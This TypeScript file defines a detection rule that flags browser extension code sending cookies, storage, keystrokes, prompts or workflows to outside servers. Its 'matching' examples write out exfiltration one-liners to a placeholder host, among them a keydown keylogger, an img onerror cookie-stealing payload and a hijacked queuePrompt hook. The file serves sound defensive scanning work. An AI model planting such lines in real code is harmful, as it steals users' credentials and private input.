import { notAcross, sequence } from '../../ground/text-search.ts'
import { argumentsOf, type CodeFacts } from '../flow/code-facts.ts'
import type { Call } from '../flow/flow.ts'
import { areLoopback, isPlayerHost, isServiceName, outerHostOf } from '../flow/hosts.ts'
import { keyName, sendsAway } from '../flow/javascript-library.ts'
import { has, type Value } from '../flow/values.ts'
import { callHits } from './code-calls.ts'
import { isUnderOne, toolServices } from './receivers.ts'
import type { CodeRule } from './rule.ts'

const isAssignment = (name: string) => name.endsWith('=')

export const pageDataSent: CodeRule = {
  of: 'javascript',
  id: 'page-data-sent',
  severity: 'high',
  why: 'Cookies, the page’s storage and what a user types hold keys and passwords.',
  fix: 'Send only what the service needs, by name, and tell the user.',
  examples: {
    matching: [
      'fetch("https://example.test/c?d=" + document.cookie)',
      'navigator.sendBeacon("https://example.test", JSON.stringify(localStorage))',
      'document.addEventListener("keydown", (e) => fetch("https://example.test/k", { method: "POST", body: e.key }))',
      'document.addEventListener("input", (e) => navigator.sendBeacon("https://example.test", e.target.value))',
      'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"fetch(\'//example.test/\'+document.cookie)\\">")',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a template string of the script that is looked at
      'new Image().src = `https://example.test/?c=${encodeURIComponent(document["coo" + "kie"])}`',
      'import { app } from "../../scripts/app.js"; const g = await app.graphToPrompt(); fetch("https://example.test/g", { method: "POST", body: JSON.stringify(g) })',
      'import { api } from "../../scripts/api.js"; const old = api.queuePrompt; api.queuePrompt = function (n, data) { navigator.sendBeacon("https://example.test/q", JSON.stringify(data)); return old.call(this, n, data) }',
      'import { app } from "../../scripts/app.js"; const f = document.createElement("iframe"); app.graph._nodes.forEach((n) => { f.src = "https://example.test/embed/" + n.properties.url })',
      'LGraphNode.prototype.onWidgetChanged = function (name, value) { navigator.sendBeacon("https://example.test/w", name + value) }',
      'LiteGraph.LGraphNode.prototype.onSerialize = (data) => { fetch("https://example.test/w", { method: "POST", body: JSON.stringify(data) }) }',
      'const d = {...localStorage}; const x = new XMLHttpRequest(); x.open("POST", "https://example.test"); x.send(JSON.stringify(d))',
    ],
    harmless: [
      'fetch("/api/save", { method: "POST", body: JSON.stringify(localStorage) })',
      'LGraphNode.prototype.onWidgetChanged = function (name, value) { fetch("/mypack/w", { method: "POST", body: name + value }) }',
      'node.onWidgetChanged = function (name, value) { fetch("https://example.test/search", { method: "POST", body: value }) }',
      'fetch("https://example.test/x", { headers: { a: localStorage.getItem("my-key") } })',
      'document.addEventListener("keydown", (e) => run(e.key))',
      'import { app } from "../../scripts/app.js"; const g = await app.graphToPrompt(); fetch("/mypack/g", { method: "POST", body: JSON.stringify(g) })',
      'import { app } from "../../scripts/app.js"; const g = await app.graphToPrompt(); fetch(app.shareAddress, { method: "POST", body: JSON.stringify(g) })',
      'field.addEventListener("input", (e) => fetch("https://example.test/translate", { method: "POST", body: e.target.value }))',
      'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"this.remove()\\">")',
      'import { app } from "../../scripts/app.js"; const f = document.createElement("iframe"); app.graph._nodes.forEach((n) => { f.src = "https://www.youtube.com/embed/" + n.properties.url })',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      if (
        writesPage.test(call.name) &&
        call.args.some(({ texts }) => texts.some((one) => tellingHandler.test(one)))
      )
        return { message: 'Writes an element into the page that sends away cookies or storage.' }
      if (isSubmitted(facts, call))
        return { message: 'Puts cookies, storage or the workflow into a form for another server.' }
      if (!sendsAway.test(call.name) || staysHome(facts, call)) return undefined
      const values = argumentsOf(call)
      const isOwn =
        !isAssignment(call.name) &&
        values[0] !== undefined &&
        values[0].texts.length > 0 &&
        values[0].texts.every((text) => text.startsWith('/') || areLoopback([text]))
      const isPrivate = values.some((value) => has(value, 'storage')) || isSpied(facts, call)
      if (isKeySent(facts, call)) return { message: 'Sends a key to a service that it is not for.' }
      if (isGivenAway(facts, call))
        return { message: 'Sends the user’s prompts, workflows or settings away.' }
      return !isOwn && isPrivate
        ? { message: 'Sends away cookies, storage or what the user types.' }
        : undefined
    }),
}

const writesPage = /(insertAdjacentHTML|createContextualFragment|document\.write(ln)?|(inner|outer)HTML=)$/

/** Event handler code that reads data stored by the page. */
const tellingHandler = sequence(
  /</,
  notAcross(/>/, /\bon\w+\s*=/i),
  notAcross(/>/, /\b(document\s*\.\s*cookie|localStorage|sessionStorage)\b/i),
)

/** The user's input, or data that the page sends, goes to a literal address. */
function isSpied(facts: CodeFacts, call: Call): boolean {
  if (!argumentsOf(call).some((value) => has(value, 'spying'))) return false
  return sendsToBrowser(call) || hostsOf(facts, call).length > 0
}

/** Whether prompts, workflows or settings go to another server that the source names. */
function isGivenAway(facts: CodeFacts, call: Call): boolean {
  if (!argumentsOf(call).some((value) => has(value, 'private'))) return false
  return sendsToBrowser(call) || hostsOf(facts, call).some((host) => !isUnderOne(host, toolServices))
}

/** Whether a key goes to a server that is not named like it, in a script that does not store keys itself. */
function isKeySent(facts: CodeFacts, call: Call): boolean {
  if (!argumentsOf(call).some((value) => has(value, 'credential'))) return false
  if (sendsToBrowser(call)) return true
  const words = facts.texts
    .filter(({ text }) => text.length < 60 && keyName.test(text))
    .flatMap(({ text }) => wordsOf(text))
  // A script that asks for a key sends its own, but a key with the name of a service is for that service.
  if (asksForKey.test(facts.text) && !words.some((word) => isServiceName(word))) return false
  return hostsOf(facts, call).some((host) => !wordsOf(host).some((word) => words.includes(word)))
}

/** A script that stores keys, or adds a setting for them, sends its own. */
const asksForKey = /(setItem\(|addSetting\(|\bid\s*:)\s*["'`][^"'`]{0,80}(key|token|secret|password)/i

/** Returns the words that tell a service. */
function wordsOf(text: string): string[] {
  const words =
    text
      .replace(/([a-z])([A-Z])/g, '$1 $2')
      .toLowerCase()
      .match(/[a-z]{3,}/g) ?? []
  return words.filter(
    (word) => !/^(api|key|apikey|token|secret|password|access|auth|com|net|org|www)$/.test(word),
  )
}

/** Returns the hosts of other machines that a call reaches, except those that only play media. */
function hostsOf({ calls }: CodeFacts, call: Call): string[] {
  const others = openedBy.find(([name]) => name.test(call.name))
  const addressed = others ? calls.filter(({ name }) => others[1].test(name)) : [call]
  return addressed
    .flatMap(({ args }) => args)
    .flatMap(({ texts, fields }) => [...texts, ...(fields?.get('url')?.texts ?? []), ...codeHosts(fields)])
    .filter((text) => !isPlayerHost(text))
    .map(hostInStyle)
    .filter((host) => host !== '')
}

/** Addresses in a script that is written into the source as a text. */
function codeHosts(fields: Value['fields']): string[] {
  return (
    fields
      ?.get('code')
      ?.texts.flatMap((text) => text.match(/\b(?:https?|wss?):\/\/[^\s"'`]{1,200}/g) ?? []) ?? []
  )
}

/** Styles name addresses as `url(…)`. */
function hostInStyle(text: string): string {
  return outerHostOf(text.replace(/^[^(]{0,100}\burl\(["']?/, ''))
}

/** Calls whose receiver another call names. */
const openedBy: [RegExp, RegExp][] = [
  [/\.send$/, /^(XMLHttpRequest\(\)\.open|WebSocket)$/],
  [/^(Shared)?Worker\(\)\.\S*postMessage$/, /^(Shared)?Worker$/],
  [/\.postMessage$/, /^(element:iframe\.src=|(globalThis\.)?open)$/],
]

/** Whether a field of a form for another server gets what is private. */
function isSubmitted({ calls }: CodeFacts, { name, args }: Call): boolean {
  if (!/^element:(input|textarea)\.value=$/.test(name)) return false
  if (!args.some((value) => has(value, 'storage', 'private', 'spying', 'credential'))) return false
  return calls.some(
    (one) =>
      one.name === 'element:form.action=' &&
      one.args.some(({ texts }) => texts.some((text) => outerHostOf(text) !== '')),
  )
}

/** The other browser is a stranger's, however the two found each other. */
const sendsToBrowser = ({ name }: Call) => /^RTC(DataChannel\(\)\.send|PeerConnection)$/.test(name)

/** Whether a request opened in another call stays local: no address in the file has a host. */
function staysHome({ calls }: CodeFacts, call: Call): boolean {
  if (!/\.send$/.test(call.name) || sendsToBrowser(call)) return false
  return !calls.some(
    (one) =>
      /^(XMLHttpRequest\(\)\.open|WebSocket)$/.test(one.name) &&
      one.args.some((arg) => arg.texts.some((text) => outerHostOf(text) !== '')),
  )
}
